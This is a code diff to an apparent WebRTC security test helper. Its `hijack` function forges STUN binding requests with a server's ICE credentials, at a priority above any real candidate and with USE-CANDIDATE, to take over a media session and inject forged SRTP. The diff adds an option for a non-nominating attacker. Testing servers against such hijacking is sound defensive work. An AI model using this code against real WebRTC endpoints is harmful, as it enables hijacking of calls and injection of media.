@@ -65,7 +65,9 @@ function xorMappedAddress(address, port) {
 
 // `target`: { address, port } of the server's candidate; `server`/`client`: { ufrag, pwd }.
 // `ssrc`: one of the victim's, for a forged SRTP packet.
-export async function hijack({ target, server, client, ssrc = 0, durationMs = 4000, intervalMs = 50 }) {
+// `nominate: false`: plain checks at the lowest priority, no USE-CANDIDATE: an attacker that
+// never wins ICE.
+export async function hijack({ target, server, client, ssrc = 0, durationMs = 4000, intervalMs = 50, nominate = true }) {
   const socket = dgram.createSocket('udp4');
   await new Promise((resolve) => socket.bind(0, '127.0.0.1', resolve));
   const seen = { stun_requests: 0, stun_responses: 0, dtls: 0, srtp: 0, other: 0, bytes: 0 };
@@ -88,13 +90,13 @@ export async function hijack({ target, server, client, ssrc = 0, durationMs = 40
   });
   const tieBreaker = Buffer.alloc(8, 0xff);
   const priority = Buffer.alloc(4);
-  priority.writeUInt32BE(0xfffffff0, 0);  // above any real candidate's
+  priority.writeUInt32BE(nominate ? 0xfffffff0 : 1, 0);  // above any real candidate's, or below
   const username = Buffer.from(`${server.ufrag}:${client.ufrag}`);
   const send = () => {
     const request = stunMessage(BINDING_REQUEST, randomBytes(12), [
       attribute(ATTR.USERNAME, username),
       attribute(ATTR.PRIORITY, priority),
-      attribute(ATTR.USE_CANDIDATE, Buffer.alloc(0)),
+      ...(nominate ? [attribute(ATTR.USE_CANDIDATE, Buffer.alloc(0))] : []),
       attribute(ATTR.ICE_CONTROLLING, tieBreaker),
     ], server.pwd);
     socket.send(request, target.port, target.address);
